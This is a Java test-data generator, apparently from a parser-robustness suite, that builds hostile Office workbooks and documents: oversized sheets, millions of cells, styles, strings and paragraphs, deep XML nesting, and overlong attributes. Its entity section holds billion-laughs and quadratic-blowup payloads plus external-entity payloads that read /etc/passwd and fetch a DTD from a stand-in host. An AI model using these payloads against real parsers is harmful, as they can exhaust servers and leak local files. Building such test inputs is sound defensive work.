package org.fundperf.hostile;

import static org.fundperf.hostile.Zip.repeated;
import static org.fundperf.hostile.Zip.text;

import java.util.Map;

/** Workbooks and documents of Office 2007 and later that ask for more than they look. */
final class OfficeFiles {

    private static final int MILLION = 1_000_000;

    private OfficeFiles() {}

    static void addTo(Map<String, HostileFile> files) {
        sheets(files);
        entities(files);
        documents(files);
    }

    private static void sheets(Map<String, HostileFile> files) {
        files.put(
                "huge dimension.xlsx",
                () -> Office.workbook(text(
                        "<worksheet><dimension ref=\"A1:XFD1048576\"/><cols><col min=\"1\" max=\"2147483647\" hidden=\"1\"/></cols>"
                                + "<sheetData><row r=\"1048576\"><c r=\"XFD1048576\"><v>1</v></c></row></sheetData>"
                                + "<mergeCells><mergeCell ref=\"A1:XFD1048576\"/></mergeCells></worksheet>")));
        files.put(
                "row beyond the sheet.xlsx",
                () -> Office.workbook(Office.sheet("<row r=\"2147483647\"><c r=\"A2147483647\"><v>1</v></c></row>")));
        files.put(
                "million cells.xlsx",
                () -> Office.workbook(repeated(
                        "<worksheet><sheetData>",
                        "<row>" + "<c><v>7919</v></c>".repeat(100) + "</row>",
                        10_000,
                        "</sheetData></worksheet>")));
        files.put(
                "million empty cells.xlsx",
                () -> Office.workbook(repeated(
                        "<worksheet><sheetData>",
                        "<row>" + "<c s=\"1\"/>".repeat(1_000) + "</row>",
                        5_000,
                        "</sheetData></worksheet>")));
        files.put(
                "million merges.xlsx",
                () -> Office.workbook(repeated(
                        "<worksheet><sheetData><row><c><v>1</v></c></row></sheetData><mergeCells>",
                        "<mergeCell ref=\"A1:C1048576\"/>",
                        MILLION,
                        "</mergeCells></worksheet>")));
        files.put(
                "many large merges.xlsx",
                () -> Office.workbook(out -> {
                    text("<worksheet><sheetData>").write(out);
                    for (int row = 0; row < 1_000; row++) {
                        text("<row>" + "<c><v>1</v></c>".repeat(150) + "</row>").write(out);
                    }
                    text("</sheetData><mergeCells>").write(out);
                    for (int row = 1; row <= 100_000; row++) {
                        text("<mergeCell ref=\"A%d:XFD1048576\"/>".formatted(1 + row % 1_000))
                                .write(out);
                    }
                    text("</mergeCells></worksheet>").write(out);
                }));
        files.put(
                "million shared strings.xlsx",
                () -> Office.workbook(
                        repeated("<sst>", "<si><t>养</t></si>", 3 * MILLION, "</sst>"),
                        text("<styleSheet/>"),
                        Office.sheet("")));
        files.put(
                "million empty strings.xlsx",
                () -> Office.workbook(
                        repeated("<sst>", "<si/>", 20 * MILLION, "</sst>"), text("<styleSheet/>"), Office.sheet("")));
        files.put(
                "one long string many times.xlsx",
                () -> Office.workbook(
                        text("<sst><si><t>" + "养".repeat(32_000) + "</t></si></sst>"),
                        text("<styleSheet/>"),
                        repeated(
                                "<worksheet><sheetData><row>",
                                "<c t=\"s\"><v>0</v></c>",
                                16_000,
                                "</row></sheetData></worksheet>")));
        files.put(
                "million styles.xlsx",
                () -> Office.workbook(
                        text("<sst/>"),
                        repeated(
                                "<styleSheet><cellXfs>",
                                "<xf numFmtId=\"9\"/>",
                                5 * MILLION,
                                "</cellXfs></styleSheet>"),
                        Office.sheet("")));
        files.put(
                "million formats.xlsx",
                () -> Office.workbook(
                        text("<sst/>"),
                        out -> {
                            text("<styleSheet><numFmts>").write(out);
                            for (int i = 0; i < MILLION; i++) {
                                text("<numFmt numFmtId=\"%d\" formatCode=\"%d0.00\"/>".formatted(i + 200, i))
                                        .write(out);
                            }
                            text("</numFmts></styleSheet>").write(out);
                        },
                        Office.sheet("")));
        files.put(
                "slow format.xlsx",
                () -> Office.workbook(
                        text("<sst/>"),
                        text("<styleSheet><numFmts><numFmt numFmtId=\"200\" formatCode=\"" + "[$-".repeat(60)
                                + "?".repeat(70)
                                + "/\"/></numFmts><cellXfs><xf numFmtId=\"200\"/></cellXfs></styleSheet>"),
                        repeated(
                                "<worksheet><sheetData><row>",
                                "<c><v>1.25</v></c>",
                                10_000,
                                "</row></sheetData></worksheet>")));
        files.put(
                "long attribute.xlsx",
                () -> Office.workbook(repeated("<worksheet a=\"", "0123456789abcdef", 10 * MILLION, "\"/>")));
        files.put(
                "long comment.xlsx",
                () -> Office.workbook(
                        repeated("<worksheet><!--", "0123456789abcdef", 10 * MILLION, "--></worksheet>")));
        files.put(
                "long instruction.xlsx",
                () -> Office.workbook(repeated("<worksheet><?a ", "0123456789abcdef", 10 * MILLION, "?></worksheet>")));
        files.put(
                "long section.xlsx",
                () -> Office.workbook(
                        repeated("<worksheet><![CDATA[", "0123456789abcdef", 10 * MILLION, "]]></worksheet>")));
        files.put(
                "long name.xlsx",
                () -> Office.workbook(repeated(
                        "<worksheet><", "0123456789abcdef".replace('0', 'a'), 10 * MILLION, "/></worksheet>")));
        files.put(
                "many attributes.xlsx",
                () -> Office.workbook(out -> {
                    text("<worksheet ").write(out);
                    for (int i = 0; i < MILLION; i++) {
                        text("a%d=\"\" ".formatted(i)).write(out);
                    }
                    text("/>").write(out);
                }));
        files.put(
                "many names.xlsx",
                () -> Office.workbook(out -> {
                    text("<worksheet>").write(out);
                    for (int i = 0; i < 3 * MILLION; i++) {
                        text("<element%d/>".formatted(i)).write(out);
                    }
                    text("</worksheet>").write(out);
                }));
        files.put("deep XML.xlsx", () -> Office.workbook(repeated("<worksheet>", "<a>", 10 * MILLION, "")));
        files.put(
                "infinite number.xlsx",
                () -> Office.workbook(
                        Office.sheet("<row><c><v>NaN</v></c><c><v>1E999</v></c><c><v>1E308</v></c></row>")));
        files.put(
                "long number.xlsx",
                () -> Office.workbook(repeated(
                        "<worksheet><sheetData><row><c><v>", "9", MILLION, "</v></c></row></sheetData></worksheet>")));
    }

    private static void entities(Map<String, HostileFile> files) {
        StringBuilder laughs = new StringBuilder("<!DOCTYPE x [<!ENTITY a0 \"lol\">");
        for (int i = 1; i < 12; i++) {
            laughs.append(
                    "<!ENTITY a%d \"%s\">".formatted(i, "&a%d;".formatted(i - 1).repeat(10)));
        }
        files.put("billion laughs.xlsx", () -> Office.workbook(text(laughs + "]><worksheet>&a11;</worksheet>")));
        files.put(
                "quadratic entity.xlsx",
                () -> Office.workbook(repeated(
                        "<!DOCTYPE x [<!ENTITY a \"" + "a".repeat(100_000) + "\">]><worksheet>",
                        "&a;",
                        100_000,
                        "</worksheet>")));
        files.put(
                "external entity.xlsx",
                () -> Office.workbook(
                        text(
                                "<!DOCTYPE x SYSTEM \"http://192.0.2.1/x.dtd\" [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><worksheet>&a;</worksheet>")));
        files.put(
                "external entity.docx",
                () -> new Zip()
                        .with(
                                "word/document.xml",
                                text("<!DOCTYPE x [<!ENTITY % a SYSTEM \"http://192.0.2.1/x.dtd\"> %a;]><document/>"))
                        .bytes());
    }

    private static void documents(Map<String, HostileFile> files) {
        files.put("million empty paragraphs.docx", () -> Office.document(repeated("", "<w:p/>", 3 * MILLION, "")));
        files.put(
                "million paragraphs.docx",
                () -> Office.document(repeated("", "<w:p><w:r><w:t>字</w:t></w:r></w:p>", 3 * MILLION, "")));
        files.put(
                "tables in tables.docx", () -> Office.document(repeated("", "<w:tbl><w:tr><w:tc><w:p/>", 10_000, "")));
        files.put("deep paragraphs.docx", () -> Office.document(repeated("", "<w:p><w:r>", 3 * MILLION, "")));
        files.put(
                "million empty cells.docx",
                () -> Office.document(repeated(
                        "<w:tbl>", "<w:tr>" + "<w:tc><w:p/></w:tc>".repeat(60) + "</w:tr>", 50_000, "</w:tbl>")));
        files.put("million tables.docx", () -> Office.document(repeated("", "<w:tbl/>", 5 * MILLION, "")));
        files.put(
                "huge spans.docx",
                () -> Office.document(repeated(
                        "<w:tbl>",
                        "<w:tr><w:trPr><w:gridBefore w:val=\"2147483647\"/></w:trPr><w:tc><w:tcPr>"
                                + "<w:gridSpan w:val=\"2147483647\"/></w:tcPr><w:p><w:r><w:t>1</w:t></w:r></w:p></w:tc></w:tr>",
                        100,
                        "</w:tbl>")));
        files.put(
                "wide rows.docx",
                () -> Office.document(repeated(
                        "<w:tbl>",
                        "<w:tr>" + "<w:tc><w:tcPr><w:gridSpan w:val=\"1000\"/></w:tcPr></w:tc>".repeat(16) + "</w:tr>",
                        50_000,
                        "</w:tbl>")));
        files.put(
                "one long paragraph.docx",
                () -> Office.document(repeated("<w:p>", "<w:r><w:t>字</w:t></w:r>", 3 * MILLION, "</w:p>")));
        files.put(
                "million hidden runs.docx",
                () -> Office.document(repeated("<w:p>", "<w:r><w:vanish/><w:t>字</w:t></w:r>", 3 * MILLION, "</w:p>")));
        files.put(
                "million text boxes.docx",
                () -> Office.document(
                        repeated("<w:p>", "<w:txbxContent><w:t>字</w:t></w:txbxContent>", 2 * MILLION, "</w:p>")));
    }
}
